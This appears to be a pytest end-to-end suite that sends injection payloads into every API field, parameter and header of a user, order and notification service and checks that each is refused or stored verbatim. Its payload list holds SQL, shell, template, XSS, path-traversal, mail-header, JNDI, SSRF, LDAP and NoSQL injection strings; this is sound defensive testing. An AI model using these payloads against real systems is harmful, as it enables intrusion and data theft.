"""Strings that mean something to a database, a shell, a template, a browser, a mail server or a path: in every field.

The fields come from the OpenAPI documents, so that a new one is tried without anybody thinking of it. Each is refused
or kept as it stands.
"""

from __future__ import annotations

import copy
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import pytest

from tests.e2e.client import PASSWORD, Client
from tests.e2e.sandbox import Sandbox
from tests.hostile.attack import LINE, MESSAGE, ORDER, Attack

Path = tuple[str | int, ...]

STRINGS = (
    "' OR '1'='1' --",
    "'; DROP TABLE users; SELECT pg_sleep(30); --",
    "1 UNION SELECT password_hash FROM users",
    "$(touch /tmp/owned)`id`|id;id",
    "{{1337*7331}}${1337*7331}<%=1337*7331%>#{1337*7331}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "../../../../../../etc/passwd",
    "x\r\nBcc: victim@example.com\r\n\r\nowned",
    "x\u2028y\u202egnp.exe\ufeff",
    "nul\x00byte",
    "%00%0d%0a%s%n%x",
    "${jndi:ldap://elsewhere.example/a}",
    "http://169.254.169.254/latest/meta-data/",
    "\r\nCONFIG SET dir /tmp\r\n",
    "*)(uid=*))(|(uid=*",
    "A" * 5000,
)
VALUES: tuple[Any, ...] = (*STRINGS, None, True, -1, 2**63, 1e308, [], {}, {"$ne": None}, ["a"] * 2000)
COMPUTED = "9801547"  # 1337 * 7331: somebody evaluated a template

BODIES: dict[tuple[str, str], dict[str, Any]] = {
    ("POST", "/api/auth/register"): {"email": "eve@example.com", "password": PASSWORD, "name": "Eve"},
    ("POST", "/api/auth/login"): {"email": "eve@example.com", "password": "not the password"},
    ("POST", "/api/auth/refresh"): {"refresh_token": "x" * 88},
    ("POST", "/api/auth/password"): {"current_password": "not the password", "new_password": PASSWORD},
    ("POST", "/api/auth/password-reset"): {"email": "eve@example.com"},
    ("POST", "/api/auth/password-reset/confirm"): {"token": "x" * 43, "new_password": PASSWORD},
    ("PUT", "/api/users/{user_id}"): {"email": "eve@example.com", "name": "Eve"},
    ("POST", "/api/orders"): ORDER,
    ("PUT", "/api/orders/{order_id}/status"): {"status": "paid"},
    ("POST", "/api/notifications/send"): MESSAGE,
}


def operations(client: Client) -> Iterator[tuple[str, str, dict[str, Any]]]:
    for service in ("user", "order", "notification"):
        for path, methods in client.get(f"/openapi/{service}.json").json()["paths"].items():
            for method, operation in methods.items():
                yield method.upper(), path, operation


def leaves(value: Any, path: Path = ()) -> Iterator[Path]:
    """Where in a body there is a value that can be replaced."""
    inside: list[tuple[str | int, Any]] = []
    if isinstance(value, dict):
        inside = list(value.items())
    elif isinstance(value, list):
        inside = list(enumerate(value))
    for key, item in inside:
        yield (*path, key)
        yield from leaves(item, (*path, key))


def replaced(body: dict[str, Any], path: Path, value: Any) -> dict[str, Any]:
    changed: Any = copy.deepcopy(body)
    place = changed
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    return dict(changed)


def test_every_documented_body_is_attacked(anybody: Client) -> None:
    documented = {(method, path) for method, path, operation in operations(anybody) if "requestBody" in operation}
    assert documented == set(BODIES)


@pytest.mark.parametrize("operation", BODIES, ids=" ".join)
def test_no_value_in_a_body_is_more_than_a_value(
    attack: Attack, customer: Client, admin: Client, operation: tuple[str, str]
) -> None:
    method, template = operation
    who = admin if template.startswith("/api/notifications") or template.endswith("/status") else customer
    order = customer.order().json()["id"] if "order_id" in template else ""
    # The limits hold for this client too.
    patient = template.endswith("register")
    path = template.format(user_id=customer.user["id"], order_id=order)
    for leaf in leaves(BODIES[operation]):
        for value in VALUES:
            headers = {"Idempotency-Key": uuid4().hex, "If-Match": "*"}
            body = replaced(BODIES[operation], leaf, value)
            if patient and leaf != ("email",):
                body["email"] = f"{uuid4().hex}@example.com"
            answer = attack(who, method, path, json=body, headers=headers, sent=str(value), patient=patient)
            assert not patient or answer.status_code != 429, (leaf, value)
            assert COMPUTED not in answer.text, (leaf, value)
            assert answer.status_code != 200 or template.endswith(("{user_id}", "status")), (leaf, value)


def test_no_string_in_an_address_is_more_than_a_string(attack: Attack, customer: Client, anybody: Client) -> None:
    for method, path, operation in operations(anybody):
        for parameter in operation.get("parameters", []):
            if parameter["in"] not in ("path", "query"):
                continue
            for value in STRINGS:
                encoded, ids = quote(value, safe=""), str(uuid4())
                if parameter["in"] == "path":
                    address = path.replace("{" + parameter["name"] + "}", encoded)
                else:
                    address = f"{path}?{parameter['name']}={encoded}"
                for name in ("user_id", "order_id", "notification_id", "session_id"):
                    address = address.replace("{" + name + "}", ids)
                options = {"json": BODIES[(method, path)]} if (method, path) in BODIES else {}
                answer = attack(customer, method, address, sent=value, headers={"If-Match": "*"}, **options)
                assert 400 <= answer.status_code < 500, (method, address, answer.status_code)


def test_no_string_in_a_header_is_more_than_a_string(attack: Attack, customer: Client) -> None:
    for name in (
        "Idempotency-Key",
        "If-Match",
        "User-Agent",
        "Accept",
        "Accept-Language",
        "Referer",
        "Cookie",
        "Origin",
    ):
        for value in STRINGS:
            raw = value.replace("\r", "").replace("\n", "").replace("\x00", "").encode()[:3000]
            headers = {"Idempotency-Key": uuid4().hex} | {name: raw}
            answer = attack(customer, "POST", "/api/orders", json=ORDER, headers=headers, sent=value)
            assert answer.status_code in (201, 400, 422), (name, value)
            assert b"owned" not in str(answer.headers).encode()


def test_a_kept_string_comes_back_as_it_was(attack: Attack, customer: Client) -> None:
    path = f"/api/users/{customer.user['id']}"
    for value in STRINGS:
        body = {"email": customer.email, "name": value}
        answer = attack(customer, "PUT", path, json=body, headers={"If-Match": "*"}, sent=value)
        if answer.status_code == 200:
            assert customer.get(path).json()["name"] == value.strip()
        else:
            assert answer.status_code == 422, value
    line = LINE | {"name": "<b>' OR 1=1 --</b>{{1337*7331}}"}
    placed = attack(
        customer,
        "POST",
        "/api/orders",
        json=ORDER | {"items": [line]},
        headers={"Idempotency-Key": uuid4().hex},
    )
    assert placed.json()["items"][0]["name"] == line["name"]


def test_a_name_stays_a_name_in_the_mail(attack: Attack, anybody: Client, sandbox: Sandbox) -> None:
    email, name = f"{uuid4().hex}@example.com", "<script>alert(1)</script>{{1337*7331}}"
    body = {"email": email, "password": PASSWORD, "name": name}
    assert attack(anybody, "POST", "/api/auth/register", json=body, sent=name).status_code == 201
    message = sandbox.email(email, "")
    assert message["Bcc"] is None
    parts = {
        part.get_content_type(): part.get_payload(decode=True) for part in message.walk() if not part.is_multipart()
    }
    html = parts["text/html"]
    assert isinstance(html, bytes)
    assert b"<script>" not in html
    assert b"&lt;script&gt;" in html
    assert COMPUTED.encode() not in b"".join(part for part in parts.values() if isinstance(part, bytes))


def test_nothing_was_run_on_the_host(sandbox: Sandbox) -> None:
    found = sandbox.run("find /tmp /var/tmp /var/lib /run -name owned 2>/dev/null || true")
    assert found == ""
